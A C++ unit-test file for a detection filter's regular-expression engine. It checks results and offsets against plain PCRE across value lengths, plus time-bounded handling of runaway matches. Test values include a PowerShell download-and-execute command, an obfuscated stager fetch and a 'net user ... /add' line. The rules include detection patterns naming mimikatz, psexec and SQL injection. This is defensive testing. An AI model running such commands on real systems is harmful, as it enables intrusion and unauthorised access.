// The filter's expression against plain PCRE as the reference: the same text, the same options
// (UTF-8, dot-all, multi-line), studied for the JIT, an offset vector of 120 integers. Wherever
// PCRE decides a match, the expression decides it the same way, with the same offsets, at every
// length a value may have; a match that would run away is abandoned at the bound of its time
// instead, and only one that plain PCRE itself spends milliseconds on.
#include <gtest/gtest.h>
#include <pcre.h>

#include <random>
#include <string>
#include <vector>

#include "VarloService/sysfilter/Expression.h"
#include "WinEventData.h"
#include "tests/support/PlainPcre.h"
#include "tests/support/RuleShapes.h"

namespace sysfilter {
namespace {

// A match abandoned at the bound has used 25 ms of processor time; plain PCRE, which runs the
// same code, needs no less for it. Far below that is a bound that ended too soon.
constexpr double kLeastAbandonedMilliseconds = 5;

// One expression compiled as the reference, and as the filter's.
class cBoth {
 public:
  explicit cBoth(const std::string& text) : m_text(text), m_plain(text) { m_compiled = m_filter.Compile(text); }

  bool Compiled() const { return m_plain.Compiled() && m_compiled == 1; }

  // Both results and every offset, told when they differ; where PCRE itself fails (its step limit,
  // its stack), there is nothing to hold the filter to.
  void ExpectSameResult(const std::string& subject, const std::string& what, bool mayBeAbandoned = true) const {
    int plainOffsets[cExpression::kOvectorSize];
    int filterOffsets[cExpression::kOvectorSize];
    const int plain = m_plain.Exec(subject, plainOffsets);
    if (plain < 0 && plain != PCRE_ERROR_NOMATCH) return;
    const int filter = m_filter.Exec(subject.data(), static_cast<int>(subject.size()), filterOffsets);
    if (filter == PCRE_ERROR_MATCHLIMIT && mayBeAbandoned) {
      EXPECT_GE(m_plain.ExecMilliseconds(subject), kLeastAbandonedMilliseconds)
          << m_text << " over " << what << " (" << subject.size() << " bytes) was abandoned";
      return;
    }
    ASSERT_EQ(filter, plain) << m_text << " over " << what << " (" << subject.size() << " bytes)";
    for (int i = 0; i < 2 * plain && i < 2 * cExpression::kOvectorSize / 3; ++i) {
      ASSERT_EQ(filterOffsets[i], plainOffsets[i]) << m_text << " over " << what << ", offset " << i;
    }
  }

  int Filter(const std::string& subject, int* ovector = nullptr) const {
    return m_filter.Exec(subject.data(), static_cast<int>(subject.size()), ovector);
  }

 private:
  std::string m_text;
  cPlainPcre m_plain;
  cExpression m_filter;
  int m_compiled = 0;
};

TEST(Expression, RuleShapesGivePcresResultWithAndWithoutAMatch) {
  for (const cRuleShape& shape : RuleShapes()) {
    const cBoth expression(shape.expression);
    ASSERT_TRUE(expression.Compiled()) << shape.expression;
    for (size_t kib : {2, 16, 64, 128}) {
      for (const bool withFound : {true, false}) {
        const std::string value = ShapeValue(shape, kib * 1024, withFound);
        EXPECT_EQ(expression.Filter(value) >= 0, withFound) << shape.expression << " over " << kib << " KiB";
        expression.ExpectSameResult(value, withFound ? "a value with a match" : "a value without", false);
      }
    }
  }
}

// Values of the kinds events and requests carry, the kind of thing filters look for at the end.
const std::string kCommandLine =
    "powershell.exe -NoP -NonI -W Hidden -c \"$s='http://10.0.0.5/a'; $c=New-Object "
    "Net.WebClient; $c.Headers.Add('User-Agent','Mozilla/5.0'); iex $c.DownloadString($s)\" "
    "& C:\\Windows\\System32\\cmd.exe /c echo done > C:\\Users\\Public\\out.txt ";
// Obfuscated as attackers do, with 17 "+", which the public rule of fourteen "+" looks for.
const std::string kJoinedLine =
    "powershell.exe -NoP -c \"$u='h'+'tt'+'p:'+'//'+'10.'+'0.0'+'.5/'+'s'+'ta'+'ge'+'r.p'+'s1';"
    "$w=New-Object Net.WebClient;$d=$w.DownloadString($u);i'+'e'+'x $d;$n='o'+'u'+'t'+'.txt'\" ";
const std::string kScriptBlock =
    "function Get-Data { param([string]$Path) $items = Get-ChildItem -Path $Path -Recurse | "
    "Where-Object { $_.Length -gt 1024 }; foreach ($i in $items) { Write-Output \"$($i.FullName)\" } }\n";
const std::string kRequest =
    "GET /shop/item.php?id=42&sort=price&q=summer%20dress HTTP/1.1 Host: www.example.com "
    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Referer: https://www.example.com/ ";
const std::string kProse =
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut "
    "labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco. ";

// Rules of the kind servers send.
const std::vector<std::string> kOrdinaryExpressions = {
    R"(\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+)",
    R"((?i)cmd.*/c.*(whoami|net user))",
    R"((?i)(iex|invoke-expression).*(downloadstring|downloadfile))",
    R"((?i)powershell.*-(e|en|enc|enco|encodedcommand)\s)",
    R"((?i)(?=.*-nop)(?=.*-w\s+hidden).*powershell)",
    R"((?i)\b(mimikatz|procdump|psexec|rubeus|sharphound|bloodhound)\b)",
    R"((?i)(?:net|net1)\s+(?:user|localgroup)\s+\S+\s+/add)",
    R"("[^"]*")",
    R"('[^']*\.ps1')",
    R"(\b(\w+) \1\b)",
    R"((?i)\b(\w+)\s+\1\b)",
    R"((?<word>\w+) \k<word>$)",
    R"((['"]).*?\1)",
    R"((?i)(?<q>['"])https?://.*?\k<q>)",
    R"((?<name>[^\\]+)$)",
    R"(\w+\.(exe|dll|ps1|bat)\b)",
    R"(\S+@\S+\.\w+)",
    R"(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})",
    R"(\d+\.\d+)",
    R"([A-Za-z0-9+/]{40,}={0,2})",
    R"((?i)\\\\[^\\]+\\(c|admin)\$)",
    R"((?i)^.*\\temp\\.*\.exe$)",
    R"(%[0-9a-fA-F]{2})",
    R"((?i)<script[^>]*>)",
    R"((?i)union\s+(all\s+)?select)",
    R"(^\s*$)",
    R"(\w+\d)",
    R"((?(?=powershell)powershell\.exe|cmd\.exe))",
    R"(a(?C1)b|(?C2)whoami)",
    HostNames(800),
};

struct cValueKind {
  const char* name;
  std::string (*make)(size_t length);
};

const cValueKind kValueKinds[] = {
    {"a command line", [](size_t n) { return ValueOf(kCommandLine, n); }},
    {"a command line ending in what filters look for",
     [](size_t n) {
       return "cmd /c whoami " + ValueOf(kCommandLine, n, " 'x.ps1' net user eve P4ss /add \\\\srv\\admin$ "
                                                         "mimikatz.exe host799.corp.example.com");
     }},
    {"a script block", [](size_t n) { return ValueOf(kScriptBlock, n, " ends ends"); }},
    {"a request", [](size_t n) { return ValueOf(kRequest, n, " union all select %27<script>"); }},
    {"prose and a repeated word", [](size_t n) { return ValueOf(kProse, n, " again Again"); }},
    {"joined-up command lines", [](size_t n) { return ValueOf(kJoinedLine, n); }},
};

const size_t kLengths[] = {60, 256, 1000, 2200, 8000, 32767, 131072};

TEST(Expression, OrdinaryExpressionsGivePcresResultAtEveryLength) {
  for (const std::string& text : kOrdinaryExpressions) {
    const cBoth expression(text);
    ASSERT_TRUE(expression.Compiled()) << text;
    for (const cValueKind& kind : kValueKinds) {
      for (size_t length : kLengths) expression.ExpectSameResult(kind.make(length), kind.name);
    }
  }
}

// Expressions and values that an earlier bound decided otherwise than PCRE, or dropped.
TEST(Expression, ExamplesThatABoundOnceLost) {
  const cBoth pluses(kOrdinaryExpressions[0]);
  for (size_t length : {1100, 2022, 2391, 2438, 8192, 16384, 32767}) {
    pluses.ExpectSameResult(ValueOf(kJoinedLine + kCommandLine, length), "a joined-up command line", false);
  }
  const cBoth whoami("(?i)cmd.*/c.*(whoami|net user)");
  whoami.ExpectSameResult("cmd /c whoami " + ValueOf("& echo x ", 28 * 1024), "28 KB of commands", false);
  const cBoth repeated(R"(\b(\w+) \1\b)");
  repeated.ExpectSameResult(ValueOf(kProse, 64 * 1024, " word word"), "64 KB of text", false);
  const cBoth leadingRepeat(R"((?<name>[^\\]+)$)");
  leadingRepeat.ExpectSameResult(ValueOf("abcdefghijklmnopqrstuvwxyz0123456789", 131072, "\\end"), "one long run",
                                 false);

  // PCRE takes an assertion condition, and so does the filter.
  const cBoth admin(R"((?(?=/admin)/admin/\w+|/login)|^$)");
  ASSERT_TRUE(admin.Compiled());
  EXPECT_GE(admin.Filter("/admin/x"), 0);
  const cBoth alternation(R"(^(?:a|b)+$|(?(?=x)xy))");
  alternation.ExpectSameResult(ValueOf("ab", 900), "900 bytes", false);
  EXPECT_GE(alternation.Filter(ValueOf("ab", 900)), 0);
  const cBoth counted("(?:a|b){2000}");
  counted.ExpectSameResult(ValueOf("ab", 4000), "4,000 bytes", false);
  EXPECT_GE(counted.Filter(ValueOf("ab", 4000)), 0);

  // An explicit callout in a rule does nothing, on short values and long ones in any order.
  const cBoth callout("a(?C1)b");
  for (size_t length : {100, 3000, 100}) {
    callout.ExpectSameResult(ValueOf("x", length, "ab"), "a value ending in ab", false);
  }
}

TEST(Expression, RealEventsGivePcresResult) {
  const std::vector<cWinEvent> events = LoadWinEvents();
  if (events.empty()) GTEST_SKIP() << "no shared test data at " << WinEventFolder();
  std::string all;
  for (const cWinEvent& event : events) all += event.xml;
  for (const std::string& text : kOrdinaryExpressions) {
    const cBoth expression(text);
    for (const cWinEvent& event : events) expression.ExpectSameResult(event.xml, event.file);
    expression.ExpectSameResult(ValueOf(all, 131072), "every event, repeated to 128 KB");
  }
}

// Expressions built at random from the pieces rules are made of (callouts, conditions and verbs
// among them), over values from a small alphabet.
TEST(Expression, RandomExpressionsGivePcresResult) {
  const std::vector<std::string> atoms = {
      "a", "b", ".", "\\w", "\\d", "\\s", "[ab]", "[^a]", "(?:ab|b)", "(a|b)", "\\b", "^", "$", "(?:.*a|.*?b)",
      "(?C1)", "(?(?=a)ab|b)", "(*SKIP)", "(*PRUNE)", "(*COMMIT)", "(?=a)", "(?!b)"};
  const std::vector<std::string> repeats = {"", "", "*", "+", "?", "{2}", "{1,3}", "*?", "+?", "*+"};
  const std::string alphabet = "aab b1\n,";
  std::mt19937 random(20261211);
  auto pick = [&](const auto& list) { return list[random() % list.size()]; };
  for (int round = 0; round < 2000; ++round) {
    std::string text;
    const int items = 1 + static_cast<int>(random() % 5);
    for (int i = 0; i < items; ++i) text += pick(atoms) + pick(repeats);
    if (random() % 4 == 0) text = "(?<g>" + text + ")" + pick(atoms);
    // A back-reference to a group that may capture most of a value takes PCRE itself milliseconds
    // to seconds over a few thousand characters.
    const bool compares = random() % 5 == 0;
    if (compares) text += "\\1";
    if (random() % 5 == 0) text += "|.*" + pick(atoms);
    const cBoth expression(text);
    if (!expression.Compiled()) continue;
    for (size_t length : {40, 300, 3000}) {
      if (compares && length > 300) break;
      std::string subject;
      while (subject.size() < length) subject += alphabet[random() % alphabet.size()];
      expression.ExpectSameResult(subject, "random text");
    }
  }
}

// The "(?:name|...)" of 1,200 names: PCRE compiles it, and it runs long like any other.
std::string ManyNames() { return "(?:" + HostNames(1200) + ")?"; }

// Each takes plain PCRE far longer than the bound (seconds to hours) or ends at PCRE's own step
// limit: the match ends with the match-limit error either way.
TEST(Expression, RunawayMatchesEndAtTheirBound) {
  const std::string as = std::string(120000, 'a') + "!";
  const std::string zy = ValueOf("z y ", 120000);
  const std::pair<std::string, std::string> cases[] = {
      {R"(a.*b)", as},                           // a repeat read to the end at every start
      {R"((?i)^(a+)\1+b$)", as},                 // a back-reference at every length
      {R"((?:a+)+b)", as},                       // nested repeats
      {R"((?:(?!x).)*y)", as},                   // a lookahead at every step
      {R"([ab]{20000}c)", as},                   // a counted repeat that fails near its count
      {ManyNames() + R"((a{0,900})\1[^a!])", as},  // too large for callouts before every item
      {ManyNames() + R"(.*z.*y.*x)", zy},
      {R"((?(?=a)a.*b|c))", as},                 // an assertion condition
      {R"(a(?C1).*b)", as},                      // an explicit callout
      {R"((*NO_START_OPT)a.*?b)", as},           // a verb
      {R"(\C?a.*b)", as},                        // no JIT: PCRE's interpreter
  };
  for (const auto& [text, subject] : cases) {
    const cBoth expression(text);
    ASSERT_TRUE(expression.Compiled()) << text;
    EXPECT_EQ(expression.Filter(subject), PCRE_ERROR_MATCHLIMIT) << text;
  }
}

// PCRE's interpreter takes memory within a match (a recursion saves the offsets of the groups, a
// thousand deep here); one abandoned midway leaves nothing that changes the matches after it.
TEST(Expression, AnAbandonedMatchLeavesNothingBehind) {
  const cBoth recursion(R"(\C?(?1)?(a.*b))");
  const cBoth deep(R"(\C?(a(?2)?b)|(a(?2)?b))");
  const cBoth jit(R"(a.*b)");
  const std::string runaway = std::string(30000, 'a') + "!";
  const std::string nested = std::string(1000, 'a') + std::string(1000, 'b');
  int offsets[cExpression::kOvectorSize];
  ASSERT_GE(deep.Filter(nested, offsets), 0);
  for (int round = 0; round < 5; ++round) {
    EXPECT_EQ(recursion.Filter(runaway, offsets), PCRE_ERROR_MATCHLIMIT);
    EXPECT_EQ(jit.Filter(runaway, offsets), PCRE_ERROR_MATCHLIMIT);
    recursion.ExpectSameResult("aaab", "a short value", false);
    deep.ExpectSameResult(nested, "a thousand nested pairs", false);
    jit.ExpectSameResult(ValueOf("a", 5000, "b"), "a value with its b", false);
  }
}

}  // namespace
}  // namespace sysfilter
